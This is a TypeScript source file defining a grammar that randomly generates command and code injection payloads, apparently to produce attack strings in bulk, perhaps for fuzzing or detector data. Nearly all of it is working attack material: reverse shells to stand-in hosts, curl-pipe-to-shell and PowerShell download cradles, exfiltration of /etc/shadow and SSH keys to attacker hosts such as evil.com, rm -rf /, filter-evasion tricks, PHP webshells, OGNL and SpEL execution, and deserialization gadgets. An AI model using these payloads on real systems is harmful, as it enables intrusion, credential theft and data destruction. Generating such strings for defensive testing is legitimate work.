// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what the grammar writes holds such text literally.
import { basics, createExpander, type Grammar } from "../grammar.ts";

/** Operating system commands behind every separator of Unix shells, cmd and PowerShell, and code of PHP, JavaScript, Python, Ruby. */
const grammar: Grammar = {
  ...basics,
  command:
    "‹unix›\n‹unix›\n‹unix›\n‹appended›\n‹appended›\n‹appended›\n‹appended›\n‹appended›\n‹appended›\n‹appended›\n‹appended›\n‹windows›\n‹windows›\n‹nested›\n‹nested›\n‹within›\n‹within›\n‹within›\n‹fetched›\n‹fetched›\n‹evasive›\n‹evasive›\n‹shellshock›\n‹reverse›\n‹bare›\n‹argument›",
  pre: "\n\n\n‹word›\n‹n›\n‹ip›\n127.0.0.1\nlocalhost\n‹word›.com\n‹word›.txt\ntest\n'\n\"\n)\n'‹word›'\n‹word›@‹word›.com\n‹word›\"\n‹word›'\n-‹n›\na)\n${IFS}\n%0a\n..",
  sep: ';\n;\n;\n|\n|\n|\n||\n&\n&&\n&&\n; \n | \n | \n || \n && \n & \n;;\n␤\n%0a\n%0A\n%0d%0a\n;|\n|;\n%3B\n%26\n%7C\n`\n\'; \n"; \n\'|\n"|\n"&&\n\');\n");\n$;\n|&\n&|\n&;\n<␤\n;%09',
  post: "\n\n\n\n;\n |\n|\n&\n #\n#\n ;\n'\n\"\n&&\n;#\n%00\n%0a\n`\n 2>&1\n > /dev/null\n; echo ‹word›\n > /tmp/‹xx›\n&& echo ‹word›\n|| true\n|wc\n | tee /tmp/‹xx›\n\\n",
  sp: " \n \n \n \n \n\t\n${IFS}\n$IFS$9\n+\n%20\n<",
  bin: "\n\n\n\n\n/bin/\n/usr/bin/\n/sbin/\n/usr/local/bin/\n/???/\n\\",
  ucmd: "‹bin›id\n‹bin›id\n‹bin›whoami\n‹bin›uname‹sp›-a\n‹bin›uname\n‹bin›ls\n‹bin›ls‹sp›-la\n‹bin›ls‹sp›/\n‹bin›ls‹sp›-l‹sp›‹path›\n‹bin›cat‹sp›‹path›\n‹bin›cat‹sp›‹path›\n‹bin›sleep‹sp›‹nn›\n‹bin›sleep‹sp›‹n›\n‹bin›ping‹sp›-c‹sp›‹nn›‹sp›‹host›\n‹bin›ping‹sp›-i‹sp›‹nn›‹sp›127.0.0.1\n‹bin›ping‹sp›‹host›\n‹bin›nslookup‹sp›‹host›\n‹bin›dig‹sp›‹host›\n‹bin›curl‹sp›http://‹host›/‹xx›\n‹bin›curl‹sp›‹host›\n‹bin›wget‹sp›http://‹host›/‹xx›.sh\n‹bin›wget‹sp›-O‹sp›/tmp/‹xx›‹sp›‹host›\n‹bin›nc‹sp›-e‹sp›/bin/sh‹sp›‹host›‹sp›‹nnnn›\n‹bin›nc‹sp›‹host›‹sp›‹nnnn›\n‹bin›netstat‹sp›-an\n‹bin›ifconfig\nip‹sp›addr\n‹bin›ps‹sp›aux\n‹bin›ps\n‹bin›env\nprintenv\nset\npwd\nw\nwho\nhostname\nuptime\n‹bin›echo‹sp›‹word›\n‹bin›echo‹sp›‹n›‹n›\n‹bin›rm‹sp›-rf‹sp›‹path›\n‹bin›chmod‹sp›777‹sp›‹path›\n‹bin›touch‹sp›/tmp/‹xx›\n‹bin›head‹sp›‹path›\n‹bin›tail‹sp›-n‹sp›‹n›‹sp›‹path›\n‹bin›tac‹sp›‹path›\n‹bin›nl‹sp›‹path›\n‹bin›less‹sp›‹path›\n‹bin›more‹sp›‹path›\n‹bin›grep‹sp›root‹sp›‹path›\n‹bin›find‹sp›/‹sp›-name‹sp›‹word›\n‹bin›awk‹sp›'{print}'‹sp›‹path›\n‹bin›base64‹sp›‹path›\n‹bin›xxd‹sp›‹path›\n‹bin›python‹sp›-c‹sp›'import os;os.system(\"‹word›\")'\n‹bin›perl‹sp›-e‹sp›'print 1'\n‹bin›perl‹sp›-e‹sp›'system(\"id\")'\n‹bin›php‹sp›-r‹sp›'phpinfo();'\n‹bin›bash‹sp›-c‹sp›'‹word›'\n‹bin›sh‹sp›-i\n‹bin›sh\n‹bin›which‹sp›‹nc|wget|curl|python|perl›\n‹bin›kill‹sp›-9‹sp›‹nn›\n‹bin›reboot\n‹bin›crontab‹sp›-l\n‹bin›sudo‹sp›-l\n‹bin›mail‹sp›‹word›@‹host›‹sp›<‹sp›‹path›\n‹bin›telnet‹sp›‹host›‹sp›‹nn›\nhost‹sp›`whoami`.‹host›\n‹bin›tar‹sp›cf‹sp›-‹sp›‹path›\n‹bin›scp‹sp›‹path›‹sp›‹word›@‹host›:\n‹bin›df‹sp›-h\n‹bin›mount\n‹bin›last\nhistory\n‹bin›stat‹sp›‹path›\n‹bin›file‹sp›‹path›\n‹bin›cp‹sp›‹path›‹sp›/var/www/html/‹xx›.txt\n‹bin›openssl‹sp›s_client‹sp›-connect‹sp›‹host›:‹nnnn›\n‹bin›cat<‹path›\n{cat,‹path›}\ncat$IFS‹path›\n‹bin›busybox‹sp›nc‹sp›‹host›‹sp›‹nnnn›\n‹bin›sleep‹sp›‹nn›s\nexit\n‹bin›useradd‹sp›‹word›\n‹bin›arp‹sp›-a\n‹bin›lsof‹sp›-i\n‹bin›groups\n‹bin›cd‹sp›/‹sp›&&‹sp›ls",
  path: "/etc/passwd\n/etc/passwd\n/etc/shadow\n/etc/hosts\n/tmp\n/tmp/‹xx›\n/\n/home\n/var/log/‹word›.log\n/proc/self/environ\n/etc/issue\n/root/.ssh/id_rsa\n~/.bash_history\n*\n.\n../\n/etc/p?sswd\n/e*c/p*d\n‹word›.php\nindex.php\nflag.txt\n/flag\n.env\n/var/www/html/config.php\n/etc/group",
  host: "‹word›.com\n‹word›.example\n‹xx›.‹word›.example\n‹ip›\n127.0.0.1\nlocalhost\n‹xx›.‹word›.net\n$(whoami).‹word›.com\n`id`.‹word›.com\n‹word›.oast.fun\n‹word›.burpcollaborator.net\nevil.com",
  wcmd: 'dir\ndir c:\\\ndir C:\\Users\ndir+c:/\nipconfig\nipconfig /all\nsysteminfo\nwhoami\nwhoami /priv\nnet user\nnet user ‹word› ‹word› /add\nnet localgroup administrators ‹word› /add\nnet view\nnetstat -ano\ntasklist\ntaskkill /f /im ‹word›.exe\ntype C:\\Windows\\win.ini\ntype c:\\boot.ini\ntype %SYSTEMROOT%\\win.ini\ncopy c:\\‹word› \\\\‹ip›\\‹xx›\ndel /f /q ‹word›\nping -n ‹nn› 127.0.0.1\nping.exe -n ‹nn› ‹ip›\nver\nset\nhostname\nnslookup ‹host›\ntracert ‹host›\narp -a\nroute print\nreg query HKLM\\Software\nsc query\nschtasks /create /tn ‹xx› /tr ‹word›.exe\nwmic process list\ncmd /c ‹whoami|dir|ipconfig›\ncmd.exe /c ‹dir|whoami›\nstart ‹word›.exe\ncertutil -urlcache -split -f http://‹host›/‹xx›.exe\nbitsadmin /transfer ‹xx› http://‹host›/‹xx› c:\\‹xx›.exe\nregsvr32 /s /n /u /i:http://‹host›/‹xx›.sct scrobj.dll\nmshta http://‹host›/‹xx›.hta\nrundll32 ‹word›.dll,‹xx›\npowershell -c ‹ps›\npowershell -enc ‹blob›\npowershell.exe -nop -w hidden -c "‹ps›"\npowershell "‹ps›"\npwsh -Command ‹ps›\n‹ps›\ntimeout /t ‹nn›\necho %USERNAME%\necho %PATH%\nfindstr /s password *.config\nicacls c:\\\nwaitfor ‹word› /t ‹nn›\nshutdown /r',
  ps: "IEX(New-Object Net.WebClient).DownloadString('http://‹host›/‹xx›.ps1')\nInvoke-WebRequest http://‹host›\niwr ‹host› -UseBasicParsing | iex\nGet-ChildItem C:\\\nGet-Process\nStart-Sleep -s ‹nn›\nStart-Sleep ‹n›\nGet-Content C:\\Windows\\win.ini\nInvoke-Expression ‹word›\n$env:USERNAME\n[System.Net.Dns]::GetHostAddresses('‹host›')\nStart-Process cmd\ngci env:\n(New-Object System.Net.WebClient).DownloadFile('http://‹host›/a','a.exe')\n$PSVersionTable\nTest-Connection ‹host›",
  blob: (r) =>
    "A".repeat(0) +
    Array.from({ length: r.between(6, 20) }, () =>
      r.pick(["SQBF", "AFgA", "KABO", "AGUA", "dwAt", "ZQBj", "AG4A", "dAAg"]),
    ).join(""),
  unix: "‹pre›‹sep›‹ucmd›‹post›\n‹pre›‹sep›‹ucmd›\n‹sep›‹ucmd›‹post›\n‹sep›‹ucmd›\n‹pre›‹sep›‹sp›‹ucmd›\n‹sep›‹sp›‹ucmd›‹sp›‹sep›\n‹pre›‹sep›‹ucmd›‹sep›‹ucmd›",
  appended:
    "‹given›‹plainSep›‹probe›\n‹given›‹plainSep›‹probe›\n‹plainSep›‹probe›\n‹given›‹plainSep›‹ucmd›\n‹given›‹plainSep›‹ucmd›\n‹given›‹plainSep›‹ucmd›‹post›\n‹plainSep›‹ucmd›\n‹given›␤‹ucmd›",
  within:
    "‹given›`‹probe›`\n‹given›`‹ucmd›`\n‹given›$(‹probe›)\n‹given›$(‹ucmd›)\n‹given›`‹piped›`\n‹given›$(‹piped›)\n`‹probe›`\n$(‹probe›)\n‹given›‹plainSep›`‹probe›`\n‹given›‹plainSep›‹ucmd› `‹probe›`.‹host›",
  fetched:
    "‹given›‹plainSep›‹piped›\n‹plainSep›‹piped›\n‹given›‹plainSep›‹piped›‹plainSep›\n‹given›'‹plainSep›‹piped›\n‹given›\"‹plainSep›‹piped› #",
  piped:
    'wget -qO- http://‹host›/‹xx›.sh|‹sh|bash›\nwget -O- ‹host›/‹xx› | ‹sh|bash›\nwget http://‹host›/‹xx› -O-|‹sh|bash›\nwget -q http://‹host›/‹xx› -O /tmp/‹xx›\ncurl -s http://‹host›/‹xx›|‹sh|bash›\ncurl -fsSL https://‹host›/‹xx›.sh | ‹sh|bash›\ncurl ‹host›|‹sh|bash|python|perl›\ncurl -d @‹path› http://‹host›\ncurl http://‹host›/?‹xx›=`‹probe›`\ncurl http://‹host›/$(‹probe›)\nwget http://‹host›/`‹probe›`\nnslookup `‹probe›`.‹host›\nnslookup $(‹probe›).‹host›\nping -c ‹n› `‹probe›`.‹host›\ndig `‹probe›`.‹host›\nperl -e \'use Socket;$i="‹ip›";$p=‹nnnn›;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\'\npython3 -c \'import os;os.system("‹probe›")\'',
  probe:
    "id\nid\nls\nls -la\nls -la ‹path›\nls ‹path›\nls -la /home\nwhoami\nuname -a\nsleep ‹n›\nsleep ‹nn›\nsleep${IFS}‹n›\ncat${IFS}‹path›\nping -c ‹n› ‹ip›\nping -c ‹n› ‹host›\nping -c ‹nn› ‹host›\nping ‹host›\nnslookup ‹host›\ncat ‹path›\npwd\nenv\nhostname\nps aux\nifconfig\nnetstat -an\necho ‹word›\nw\nuptime\ndate\ndf\ncurl ‹host›\nwget http://‹host›/‹xx›",
  given:
    "‹ip›\n‹ip›\n‹ip›\n‹n›.‹n›.‹n›.‹n›\n127.0.0.1\nlocalhost\n‹letter›\n‹xx›\n‹host›\n‹word›.‹word›.com\n‹word›\n‹word›.‹pdf|jpg|png|txt|zip|csv|tar.gz›\n‹nnn›\n‹word› ‹word›\n‹word›@‹word›.org\n‹word›-‹nn›\n/‹word›/‹word›",
  plainSep: ";\n;\n; \n ; \n|\n| \n | \n&&\n && \n||\n || \n&\n & ",
  windows:
    "‹pre›‹sep›‹wcmd›\n‹sep›‹wcmd›‹post›\n‹pre›‹sep› ‹wcmd›\n‹pre› & ‹wcmd› & \n‹pre›%26‹wcmd›\n‹pre›&&‹wcmd›\n‹pre›|‹wcmd›\n‹wcmd›&‹wcmd›",
  nested:
    "$(‹ucmd›)\n`‹ucmd›`\n‹pre›$(‹ucmd›)\n‹pre›`‹ucmd›`\n‹pre›;$(‹ucmd›)\n\"$(‹ucmd›)\"\n\"`‹ucmd›`\"\n'$(‹ucmd›)'\n‹pre›‹sep›$(‹ucmd›)\n$(‹ucmd› | ‹ucmd›)\n$(printf '‹word›')\n<(‹ucmd›)\n${‹xx›:-$(‹ucmd›)}\n$((‹n›+‹n›))\n$(‹wcmd›)\n‹word›`‹ucmd›`‹word›\n‹word›$(‹ucmd›)@‹word›.com\n`‹wcmd›`\n\\`‹ucmd›\\`\n\\$(‹ucmd›)\n%60‹ucmd›%60\n%24(‹ucmd›)",
  evasive:
    "‹sep›c''at‹sp›‹path›\n‹sep›w\"h\"o\"a\"mi\n‹sep›wh\\oami\n‹sep›ca\\t‹sp›‹path›\n‹sep›who$@ami\n‹sep›w`echo`hoami\n‹sep›$0<<<‹ucmd›\n‹sep›/???/??t‹sp›/???/??ss??\n‹sep›{ls,-la}\n‹sep›X=$'cat\\x20/etc/passwd'&&$X\n‹sep›echo‹sp›‹b64›|base64‹sp›-d|sh\n‹sep›bash<<<$(base64 -d<<<‹b64›)\n‹sep›eval‹sp›\"‹ucmd›\"\n‹sep›a=ca;b=t;$a$b‹sp›‹path›\n‹sep›rev<<<'‹word›'|sh\n‹sep›$(tr‹sp›'[A-Z]'‹sp›'[a-z]'<<<'WhOaMi')\n‹sep›printf‹sp›'\\x69\\x64'|sh\n‹sep›w^h^o^a^m^i\n‹sep›p^ing‹sp›‹ip›\n‹sep›%ComSpec%‹sp›/c‹sp›dir\n‹sep›${PATH:0:1}bin${PATH:0:1}id\n‹sep›cat‹sp›${HOME:0:1}etc${HOME:0:1}passwd\n‹sep›$(a=\"WhOaMi\";printf %s \"${a,,}\")\n‹sep›sh</dev/tcp/‹ip›/‹nnnn›\n‹sep›cat$u‹sp›/etc$u/passwd$u\n‹sep›i$()d\n‹sep›time‹sp›if‹sp›[‹sp›$(whoami|cut -c1)‹sp›==‹sp›‹letter›‹sp›];then‹sp›sleep‹sp›‹n›;fi\n‹sep›IFS=,;`cat<<<‹word›`\n‹sep›xargs‹sp›-a‹sp›‹path›\n‹sep›curl‹sp›‹host›|‹bash|sh›\n‹sep›wget‹sp›-qO-‹sp›‹host›|sh",
  b64: "Y2F0IC9ldGMvcGFzc3dk\nd2hvYW1p\naWQ=\nbHMgLWxh\ndW5hbWUgLWE=",
  shellshock:
    "() { :;}; ‹ucmd›\n() { :; }; echo; ‹ucmd›\n() { _; } >_[$($())] { ‹ucmd›; }\n() { ignored;};/bin/bash -c '‹ucmd›'",
  reverse:
    "‹sep›bash -i >& /dev/tcp/‹ip›/‹nnnn› 0>&1\n‹sep›rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ‹ip› ‹nnnn› >/tmp/f\n‹sep›nc -lvp ‹nnnn› -e /bin/sh\n‹sep›socat tcp:‹ip›:‹nnnn› exec:sh\n‹sep›python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"‹ip›\",‹nnnn›))'\n‹sep›php -r '$s=fsockopen(\"‹ip›\",‹nnnn›);exec(\"sh <&3 >&3 2>&3\");'\n‹sep›ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"‹ip›\",‹nnnn›)'\n/bin/bash -i > /dev/tcp/‹ip›/‹nnnn› 0<& 2>&1\n‹sep›telnet ‹ip› ‹nnnn› | /bin/sh | telnet ‹ip› ‹nnnn›\n‹sep›perl -e 'use Socket;$i=\"‹ip›\";$p=‹nnnn›;'\n‹sep›lua -e \"os.execute('‹ucmd›')\"\n‹sep›awk 'BEGIN{system(\"‹ucmd›\")}'\n‹sep›find . -exec ‹ucmd› \\;\n‹sep›vim -c ':!sh'",
  bare: "cat /etc/passwd\n/bin/cat /etc/passwd\n/usr/bin/id\nnc -e /bin/sh ‹ip› ‹nnnn›\nwget http://‹host›/‹xx›.sh -O /tmp/‹xx›\ncurl http://‹host›/‹xx› | sh\nrm -rf /\n/bin/sleep ‹nn›\nping -i ‹nn› 127.0.0.1\ncmd.exe /c dir\nIEX(New-Object Net.WebClient).DownloadString('http://‹host›/‹xx›.ps1')\ntype c:\\windows\\win.ini\n/bin/bash -c '‹ucmd›'\nbash -c \"‹ucmd›\"\nsh -c '‹ucmd›'\npython -c 'import os; os.system(\"‹ucmd›\")'\n‹ucmd› > /tmp/‹xx›\nchmod +x /tmp/‹xx›; /tmp/‹xx›",
  argument:
    "-oProxyCommand=‹ucmd›\n--output=/var/www/html/‹xx›.php\n-o/tmp/‹xx›\n--use-compress-program='‹ucmd›'\n--checkpoint-action=exec=sh ‹xx›.sh\n-exec ‹ucmd› ;\n--post-file=‹path›\n--upload-pack='‹ucmd›'\n-e'‹ucmd›'\next::sh -c ‹word›%",

  code: "‹php›\n‹php›\n‹php›\n‹js›\n‹python›\n‹python›\n‹ruby›\n‹expression›",
  phpfn:
    "system\nexec\npassthru\nshell_exec\npopen\nproc_open\neval\nassert\nphpinfo\ninclude\nrequire\nfile_get_contents\nreadfile\nhighlight_file\nbase64_decode\npreg_replace\ncall_user_func\nprint_r\nvar_dump\necho\ndie\nprint\nscandir\nfopen\nunlink\nchmod\nputenv\nmail\nini_set\ncreate_function\narray_map",
  parg: "'‹ucmd›'\n\"‹ucmd›\"\n$_GET['‹xx›']\n$_POST[‹xx›]\n$_REQUEST['cmd']\n$_SERVER['HTTP_‹word›']\n\nbase64_decode('‹b64›')\n'‹path›'\n‹n›\n'‹word›'\nchr(‹nn›).chr(‹nnn›)\nmd5(‹n›)\nphpversion()\nstrrev('‹word›')\n$‹xx›\nglob('*')\nhex2bin('‹hex›')",
  pcall:
    "‹phpfn›(‹parg›)\n‹phpfn›(‹parg›)\n@‹phpfn›(‹parg›)\n`‹ucmd›`\nphpinfo()\n‹phpfn›(‹phpfn›(‹parg›))\n$_GET[‹n›]($_GET[‹n›])\n($‹xx›='‹phpfn›')&&$‹xx›('‹ucmd›')\nfile_put_contents('‹xx›.php','<?php ‹word›')\n‹phpfn›('‹word›')\necho ‹n›*‹n›\nprint(‹n›)\necho md5(‹n›)\nusleep(‹nnnn›)\nsleep(‹n›)",
  php: "<?php ‹pcall›; ?>\n<?php ‹pcall›;\n<?=‹pcall›?>\n<?= ‹pcall› ?>\n<? ‹pcall› ?>\n<?php echo ‹pcall›; die; ?>\n‹pcall›;\n‹pcall›;//\n;‹pcall›;\n';‹pcall›;//\n\";‹pcall›;//\n'.‹pcall›.'\n\".‹pcall›.\"\n${‹pcall›}\n{${‹pcall›}}\n${@‹pcall›}\n');‹pcall›;//\n‹word›;‹pcall›\n‹n›;‹pcall›\n$‹xx›=‹pcall›;\n]);‹pcall›;//\n<script language=php>‹pcall›;</script>\nGIF89a<?php ‹pcall›; ?>\n<?php @eval($_POST['‹xx›']); ?>\n<?php if(isset($_GET['cmd'])){‹pcall›;} ?>\n'.‹pcall›;//\n+‹pcall›+\n‹pcall›\n/e ‹pcall›\n1;‹pcall›;#\n}‹pcall›;{",
  js: "require('child_process').exec('‹ucmd›')\nrequire('child_process').execSync('‹ucmd›').toString()\nglobal.process.mainModule.require('child_process').execSync('‹ucmd›')\nprocess.exit()\nprocess.env\n;require('fs').readFileSync('‹path›')\n');require('child_process').exec('‹ucmd›');//\nthis.constructor.constructor('return process')().exit()\nres.end(require('fs').readdirSync('.').toString())\nwhile(1){}\nconstructor.constructor('return this.process')().mainModule.require('child_process')\n';process.kill(process.pid);'\neval('require(\"fs\")')\nimport('child_process').then(c=>c.exec('‹ucmd›'))\n(function(){return require('os').hostname()})()\n{\"__proto__\":{\"shell\":\"‹word›\"}}\n__proto__[‹word›]=‹word›\nconstructor[prototype][‹word›]=‹n›\nprocess.binding('spawn_sync')\n_$$ND_FUNC$$_function(){require('child_process').exec('‹ucmd›')}()",
  python:
    "__import__('os').system('‹ucmd›')\n__import__('os').popen('‹ucmd›').read()\n__import__('subprocess').check_output('‹ucmd›',shell=True)\nimport os;os.system('‹ucmd›')\nos.system('‹ucmd›')\nexec('import os')\neval(compile('‹word›','','exec'))\nopen('‹path›').read()\n().__class__.__bases__[0].__subclasses__()\n''.__class__.__mro__[1].__subclasses__()[‹nn›]\n'+__import__('os').popen('‹ucmd›').read()+'\nexec(\"\"\"‹word›\"\"\")\n[x for x in (1).__class__.__base__.__subclasses__()]\ngetattr(__import__('os'),'system')('‹ucmd›')\nbreakpoint()\nglobals()['__builtins__']\nsubprocess.call(['‹word›'])\n__builtins__.__import__('os')\nlambda:__import__('os')\n'%(__import__('os').system('‹ucmd›'))#\ntime.sleep(‹n›)\n__import__('time').sleep(‹nn›)",
  ruby: "#{`‹ucmd›`}\n#{system('‹ucmd›')}\nKernel.exec('‹ucmd›')\nIO.popen('‹ucmd›').read\n%x(‹ucmd›)\nsystem('‹ucmd›')\n`‹ucmd›`\n';system('‹ucmd›');'\neval(\"`‹ucmd›`\")\nopen(\"|‹ucmd›\").read\n|‹ucmd›\nFile.read('‹path›')\nperl -e 'system(\"‹ucmd›\")'\n${\\ system(\"‹ucmd›\")}\n@{[system \"‹ucmd›\"]}\nexec(\"‹ucmd›\");\nsystem(\"‹ucmd›\");\nsystem('‹ucmd›')\neval('‹ucmd›')\nexec('‹ucmd›');\nRuntime.getRuntime().exec(\"‹ucmd›\")\nnew java.lang.ProcessBuilder(\"‹word›\").start()\njava.lang.Runtime.getRuntime().exec('‹ucmd›')\n\"‹ucmd›\".execute().text\nClass.forName('java.lang.Runtime').getMethod('exec',''.class)\nSystem.Diagnostics.Process.Start(\"cmd\",\"/c ‹word›\")\nos.execute('‹ucmd›')\nload('‹path›')",
  expression:
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='‹ucmd›')}\n%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}\n(#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('‹ucmd›'))\n%{‹n›*‹n›}\nclass.module.classLoader.resources.context.parent.pipeline.first.pattern=‹word›\n@java.lang.Runtime@getRuntime().exec(\"‹ucmd›\")\n${#rt=@java.lang.Runtime@getRuntime()}\n%{(#a=@java.lang.Runtime@getRuntime().exec('‹ucmd›'))}\nredirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'‹word›'})).start()}\nT(java.lang.Runtime).getRuntime().exec('‹ucmd›')\n\\u0023_memberAccess\\u003d‹word›\n${(new javax.script.ScriptEngineManager()).getEngineByName('js').eval('‹word›')}\n=cmd|' /C ‹word›'!A0\n=HYPERLINK(\"http://‹host›\",\"‹word›\")\n@SUM(1+1)*cmd|' /C calc'!A0\n=IMPORTXML(CONCAT(\"http://‹host›/\",A1),\"//a\")\n+cmd|' /C ‹word›'!A‹n›",
  deserialization: (r) => r.pick(serialized(r)),
};

function serialized(r: import("../../random.ts").Random): string[] {
  const name = r.pick([
    "User",
    "Logger",
    "Monolog\\Handler\\SyslogUdpHandler",
    "GuzzleHttp\\Psr7\\FnStream",
    "Config",
    "File",
    "Example",
  ]);
  const field = r.pick(["admin", "file", "cmd", "handler", "data", "method"]);
  const value = r.pick(["id", "/etc/passwd", "system", "<?php system($_GET[0]);", "whoami"]);
  return [
    `O:${name.length}:"${name}":1:{s:${field.length}:"${field}";s:${value.length}:"${value}";}`,
    `a:1:{i:0;O:${name.length}:"${name}":1:{s:${field.length}:"${field}";b:1;}}`,
    `O:${name.length}:"${name}":0:{}`,
    `C:${name.length}:"${name}":4:{test}`,
    `rO0ABXNyA${r.pick(["BFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC", "DJvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMua2V5dmFsdWU", "BdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwAC"])}RgAKbG9hZEZhY3Rvckk=`,
    "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap",
    "aced00057372001" + "76a6176612e7574696c2e5072696f726974795175657565",
    `gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==`,
    `cos\nsystem\n(S'${value}'\ntR.`,
    `c__builtin__\neval\n(S'${value}'\ntR.`,
    `!!python/object/apply:os.system ["${value}"]`,
    `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${r.pick(["evil.com", "10.1.1.1"])}/"]]]]`,
    `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process"}}`,
    `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://${r.pick(["evil.com", "10.1.1.1"])}/a","autoCommit":true}`,
    `{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"}`,
    `["org.springframework.context.support.ClassPathXmlApplicationContext","http://evil.com/a.xml"]`,
    `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('${value}')}()"}`,
    `AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249`,
    `<java><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>`,
    `<java version="1.4.0" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><string>${value}</string></void></java>`,
    `--- !ruby/object:Gem::Installer\ni: x`,
    `--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection`,
    `!!python/object/new:subprocess.Popen [["${value}"]]`,
    `phar://uploads/${field}.jpg`,
    `BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6`,
  ];
}

export const commandGrammar = createExpander(grammar);
